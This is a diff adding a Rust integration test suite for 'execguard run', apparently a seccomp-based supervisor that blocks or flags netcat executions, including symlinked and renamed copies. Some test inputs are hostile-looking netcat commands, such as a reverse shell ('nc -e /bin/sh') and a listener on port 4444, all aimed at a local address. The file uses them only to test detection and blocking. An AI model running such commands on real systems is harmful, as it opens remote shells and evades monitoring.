@@ -1,0 +1,296 @@
+//! `execguard run` on the real kernel: real seccomp filters, real netcat (Debian's
+//! netcat-openbsd), real shells. Each test starts the real binary, so a filter never lands
+//! on the test process itself.
+
+use std::ffi::OsStr;
+use std::os::unix::ffi::OsStrExt;
+use std::os::unix::process::CommandExt;
+use std::path::PathBuf;
+use std::process::{Command, Output, Stdio};
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
+
+use serde_json::Value;
+
+/// A scratch directory under /tmp (a writable location, as an attacker's would be).
+struct Scratch(PathBuf);
+
+impl Scratch {
+    fn new() -> Scratch {
+        static NEXT: AtomicUsize = AtomicUsize::new(0);
+        let n = NEXT.fetch_add(1, Ordering::Relaxed);
+        let dir = std::env::temp_dir().join(format!("execguard-run-{}-{n}", std::process::id()));
+        std::fs::create_dir_all(&dir).expect("scratch dir");
+        Scratch(dir)
+    }
+    fn path(&self, name: &str) -> PathBuf {
+        self.0.join(name)
+    }
+}
+
+impl Drop for Scratch {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+struct Run {
+    output: Output,
+    alerts: Vec<Value>,
+}
+
+impl Run {
+    fn stdout(&self) -> String {
+        String::from_utf8_lossy(&self.output.stdout).into_owned()
+    }
+    fn stderr(&self) -> String {
+        String::from_utf8_lossy(&self.output.stderr).into_owned()
+    }
+    /// The alerts whose process ran `executable`.
+    fn alerts_for(&self, executable: &str) -> Vec<&Value> {
+        self.alerts.iter().filter(|a| a["process"]["executable"] == executable).collect()
+    }
+}
+
+/// Runs `command` under `execguard run` with every alert written (no repeat window), and
+/// fails the test if it does not finish within a minute: a stuck exec is a failure.
+fn guarded(mode: &str, scratch: &Scratch, command: &[&OsStr], stack_bytes: Option<u64>) -> Run {
+    static RUNS: AtomicUsize = AtomicUsize::new(0);
+    let alerts = scratch.path(&format!("alerts-{}.jsonl", RUNS.fetch_add(1, Ordering::Relaxed)));
+    let mut cmd = Command::new(env!("CARGO_BIN_EXE_execguard"));
+    cmd.args(["run", "--mode", mode, "--repeat-window-secs", "0", "--alerts"])
+        .arg(&alerts)
+        .arg("--")
+        .args(command)
+        .current_dir(&scratch.0)
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    if let Some(bytes) = stack_bytes {
+        // A larger stack limit raises the kernel's limit on argv (a quarter of it).
+        // SAFETY: setrlimit is async-signal-safe and touches only this child.
+        unsafe {
+            cmd.pre_exec(move || {
+                let limit = libc::rlimit { rlim_cur: bytes, rlim_max: bytes };
+                if libc::setrlimit(libc::RLIMIT_STACK, &limit) == 0 {
+                    Ok(())
+                } else {
+                    Err(std::io::Error::last_os_error())
+                }
+            });
+        }
+    }
+    let child = cmd.spawn().expect("start execguard run");
+    let pid = child.id();
+    let watchdog = std::thread::spawn(move || {
+        std::thread::sleep(Duration::from_secs(60));
+        // SAFETY: kill with a pid we started; at worst it is gone already.
+        unsafe { libc::kill(pid as i32, libc::SIGKILL) };
+    });
+    let output = child.wait_with_output().expect("wait for execguard run");
+    drop(watchdog);
+    assert!(output.status.signal_or_code() != Some(-libc::SIGKILL), "execguard run hung and was killed");
+    let text = std::fs::read_to_string(&alerts).unwrap_or_default();
+    let alerts = text.lines().map(|l| serde_json::from_str(l).expect("alert line is JSON")).collect();
+    Run { output, alerts }
+}
+
+trait StatusExt {
+    fn signal_or_code(&self) -> Option<i32>;
+}
+
+impl StatusExt for std::process::ExitStatus {
+    fn signal_or_code(&self) -> Option<i32> {
+        use std::os::unix::process::ExitStatusExt;
+        self.signal().map(|s| -s).or(self.code())
+    }
+}
+
+fn sh(mode: &str, scratch: &Scratch, script: &str) -> Run {
+    guarded(mode, scratch, &[OsStr::new("/bin/sh"), OsStr::new("-c"), OsStr::new(script)], None)
+}
+
+const NC: &str = "/usr/bin/nc.openbsd";
+
+#[test]
+fn enforce_blocks_netcat_in_every_disguise_and_lets_the_rest_run() {
+    let scratch = Scratch::new();
+    let script = r#"
+        ls / >/dev/null && echo ls=ok
+        cat /etc/hostname >/dev/null && echo cat=ok
+        nc 127.0.0.2 9 2>&1; echo nc=$?
+        sh -c 'nc 127.0.0.2 9' 2>&1; echo sh-c-nc=$?
+        ln -s /usr/bin/nc ./nc-link && ./nc-link 127.0.0.2 9 2>&1; echo link=$?
+        cp /usr/bin/nc.openbsd ./x && ./x 127.0.0.2 9 2>&1; echo copy=$?
+        nc -z localhost 1; echo nc-z=$?
+        which nc; echo which=$?
+    "#;
+    let run = sh("enforce", &scratch, script);
+    let out = run.stdout();
+    for expected in
+        ["ls=ok", "cat=ok", "nc=126", "sh-c-nc=126", "link=126", "copy=126", "nc-z=1", "/usr/bin/nc\nwhich=0"]
+    {
+        assert!(out.contains(expected), "missing {expected:?} in:\n{out}\nstderr:\n{}", run.stderr());
+    }
+    assert!(out.contains("nc: Operation not permitted") || run.stderr().contains("Operation not permitted"), "{out}");
+
+    // The symlink and the copy were judged by the file they are, not the name they have.
+    let copy = run.alerts_for(&scratch.path("x").display().to_string());
+    assert!(!copy.is_empty(), "no alert for the renamed copy: {:#?}", run.alerts);
+    assert_eq!(copy[0]["execguard"]["file"]["identity"], "nc");
+    assert_eq!(copy[0]["execguard"]["file"]["writable_location"], true);
+    assert_eq!(copy[0]["decision"], "block");
+    let real = run.alerts_for(NC);
+    assert!(real.iter().any(|a| a["process"]["args"] == serde_json::json!(["./nc-link", "127.0.0.2", "9"])));
+    assert!(real.iter().all(|a| a["decision"] == "block"));
+    // Allowed execs leave no record.
+    assert!(run.alerts.iter().all(|a| a["process"]["name"] != "ls" && a["process"]["name"] != "which"));
+}
+
+#[test]
+fn monitor_runs_everything_and_alerts_with_the_whole_context() {
+    let scratch = Scratch::new();
+    let run = sh("monitor", &scratch, "nc 127.0.0.2 9; echo nc=$?; sh -c 'nc -e /bin/sh 127.0.0.2 9'; echo rce=$?");
+    let out = run.stdout();
+    // netcat really ran: it failed to connect (1), it was not refused (126).
+    assert!(out.contains("nc=1") && out.contains("rce=1"), "{out}\n{}", run.stderr());
+    let alerts = run.alerts_for(NC);
+    assert!(alerts.len() >= 2, "{:#?}", run.alerts);
+    let plain = alerts
+        .iter()
+        .find(|a| a["process"]["args"] == serde_json::json!(["nc", "127.0.0.2", "9"]))
+        .expect("plain nc alert");
+    assert_eq!(plain["decision"], "alert");
+    assert!(plain["reason"].as_str().unwrap_or("").contains("enforce mode would block"));
+    assert_eq!(plain["process"]["parent"]["executable"], "/usr/bin/dash");
+    assert_eq!(plain["process"]["parent"]["args"][1], "-c");
+    assert_eq!(plain["process"]["working_directory"], scratch.0.display().to_string());
+    assert!(plain["process"]["pid"].as_u64().is_some());
+    let rce = alerts.iter().find(|a| a["rule"]["id"] == "falco.netcat_rce").expect("netcat RCE alert");
+    // nc's parent is the inner sh -c; the outer sh is its ancestor.
+    assert_eq!(rce["process"]["parent"]["args"][2], "nc -e /bin/sh 127.0.0.2 9");
+    let ancestors = rce["execguard"]["ancestors"].as_array().expect("ancestors");
+    assert!(ancestors.iter().any(|a| a["executable"] == "/usr/bin/dash"), "{ancestors:#?}");
+}
+
+#[test]
+fn a_blocked_command_exits_126_with_the_reason() {
+    let scratch = Scratch::new();
+    let run = guarded("enforce", &scratch, &[OsStr::new("nc"), OsStr::new("-lp"), OsStr::new("4444")], None);
+    assert_eq!(run.output.status.code(), Some(126));
+    assert!(run.stderr().contains("blocked by the policy"), "{}", run.stderr());
+    assert_eq!(run.alerts[0]["rule"]["id"], "datadog.netcat_shell");
+}
+
+#[test]
+fn exit_status_and_signals_come_through() {
+    let scratch = Scratch::new();
+    assert_eq!(sh("enforce", &scratch, "exit 7").output.status.code(), Some(7));
+    assert_eq!(sh("enforce", &scratch, "kill -TERM $$").output.status.code(), Some(128 + libc::SIGTERM));
+}
+
+fn compile_thread_exec(scratch: &Scratch) -> PathBuf {
+    let source = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/programs/thread_exec.c");
+    let binary = scratch.path("thread_exec");
+    let status = Command::new("cc").args(["-O2", "-pthread", "-o"]).arg(&binary).arg(source).status();
+    assert!(status.is_ok_and(|s| s.success()), "cannot compile {source}: install a C compiler (scripts/test does)");
+    binary
+}
+
+#[test]
+fn a_thread_that_execs_is_supervised_like_any_process() {
+    let scratch = Scratch::new();
+    let helper = compile_thread_exec(&scratch);
+    let helper = helper.to_str().unwrap();
+    let script = format!("{helper} wait /bin/echo echo from-thread; {helper} wait {NC} nc 127.0.0.2 9; echo nc=$?");
+    let run = sh("enforce", &scratch, &script);
+    let out = run.stdout();
+    assert!(out.contains("from-thread"), "{out}");
+    assert!(out.contains("exec failed: Operation not permitted") && out.contains("nc=126"), "{out}");
+    assert!(!run.alerts_for(NC).is_empty());
+}
+
+#[test]
+fn processes_that_die_mid_inspection_never_stall_the_supervisor() {
+    let scratch = Scratch::new();
+    let helper = compile_thread_exec(&scratch);
+    // 300 processes end themselves while their exec waits or is being inspected, at
+    // delays from 0 to 300 us; then a normal exec must still be served.
+    let script = format!(
+        "i=0; while [ $i -lt 300 ]; do DIE_US=$i {} die {NC} nc 127.0.0.2 9; i=$((i+1)); done; echo still-served",
+        helper.display()
+    );
+    let run = sh("enforce", &scratch, &script);
+    assert!(run.stdout().contains("still-served"), "{}\n{}", run.stdout(), run.stderr());
+    assert_eq!(run.output.status.code(), Some(0));
+}
+
+#[test]
+fn arguments_that_are_not_utf8_or_megabytes_long() {
+    let scratch = Scratch::new();
+    let invalid = OsStr::from_bytes(b"-\xff\xfe");
+    let echo = guarded("enforce", &scratch, &[OsStr::new("/bin/echo"), invalid], None);
+    assert_eq!(echo.output.stdout, b"-\xff\xfe\n", "the exec must receive its bytes unchanged");
+    let nc = guarded("enforce", &scratch, &[OsStr::new(NC), invalid, OsStr::new("127.0.0.2")], None);
+    assert_eq!(nc.output.status.code(), Some(126));
+    assert_eq!(nc.alerts[0]["process"]["args"][1], "-\u{fffd}\u{fffd}");
+
+    // 32 arguments of 100 KiB: 3.2 MB, past the supervisor's 256 KiB of argv.
+    let big = "x".repeat(100 * 1024);
+    let mut command: Vec<&OsStr> = vec![OsStr::new("/bin/true")];
+    command.extend(std::iter::repeat_n(OsStr::new(&big), 32));
+    let stack = Some(256 * 1024 * 1024);
+    let allowed = guarded("enforce", &scratch, &command, stack);
+    assert_eq!(allowed.output.status.code(), Some(0), "{}", allowed.stderr());
+    command[0] = OsStr::new(NC);
+    let blocked = guarded("enforce", &scratch, &command, stack);
+    assert_eq!(blocked.output.status.code(), Some(126));
+    let alert = &blocked.alerts[0];
+    assert_eq!(alert["execguard"]["args_truncated"], true);
+    assert_eq!(alert["rule"]["id"], "execguard.net_util_args_truncated");
+    let kept: usize = alert["process"]["args"].as_array().unwrap().iter().map(|a| a.as_str().unwrap().len()).sum();
+    assert!(kept <= 256 * 1024, "{kept} bytes of argv kept");
+}
+
+#[test]
+fn a_tree_fifty_deep() {
+    let scratch = Scratch::new();
+    let deep = scratch.path("deep.sh");
+    std::fs::write(&deep, "if [ \"$1\" -gt 0 ]; then sh \"$0\" $(($1 - 1)); else ls / >/dev/null && echo bottom=ok; nc 127.0.0.2 9; echo nc=$?; fi\n").unwrap();
+    let deep = deep.display().to_string();
+    let run = sh("monitor", &scratch, &format!("sh {deep} 50"));
+    assert!(run.stdout().contains("bottom=ok") && run.stdout().contains("nc=1"), "{}", run.stdout());
+    let alert = run.alerts_for(NC).into_iter().find(|a| a["decision"] == "alert").expect("nc alert").clone();
+    // The script in /tmp that started it is what makes it suspicious.
+    assert_eq!(alert["rule"]["id"], "datadog.net_util_in_container.writable_ancestor");
+    assert_eq!(alert["process"]["parent"]["args"], serde_json::json!(["sh", deep, "0"]));
+    assert_eq!(alert["execguard"]["ancestors"].as_array().map(Vec::len), Some(16), "the depth limit");
+}
+
+#[test]
+fn two_thousand_execs_leak_no_fds_and_little_memory() {
+    let scratch = Scratch::new();
+    // $PPID of the script is the supervisor (execguard run itself).
+    let script = r#"
+        fds() { ls /proc/$PPID/fd | wc -l; }
+        rss() { awk '/^VmRSS:/ { print $2 }' /proc/$PPID/status; }
+        /bin/true; f0=$(fds); r0=$(rss)
+        i=0; while [ $i -lt 2000 ]; do /bin/true; i=$((i+1)); done
+        echo fds $f0 $(fds); echo rss $r0 $(rss)
+    "#;
+    let run = sh("enforce", &scratch, script);
+    let out = run.stdout();
+    let numbers = |label: &str| -> (i64, i64) {
+        let line = out
+            .lines()
+            .find(|l| l.starts_with(label))
+            .unwrap_or_else(|| panic!("no {label} in {out}\n{}", run.stderr()));
+        let values: Vec<i64> = line.split_whitespace().skip(1).filter_map(|v| v.parse().ok()).collect();
+        assert_eq!(values.len(), 2, "{out}\n{}", run.stderr());
+        (values[0], values[1])
+    };
+    let (fds_before, fds_after) = numbers("fds");
+    assert_eq!(fds_before, fds_after, "the supervisor leaks fds");
+    let (rss_before, rss_after) = numbers("rss");
+    assert!(rss_after - rss_before < 2048, "the supervisor grew by {} KiB over 2000 execs", rss_after - rss_before);
+}
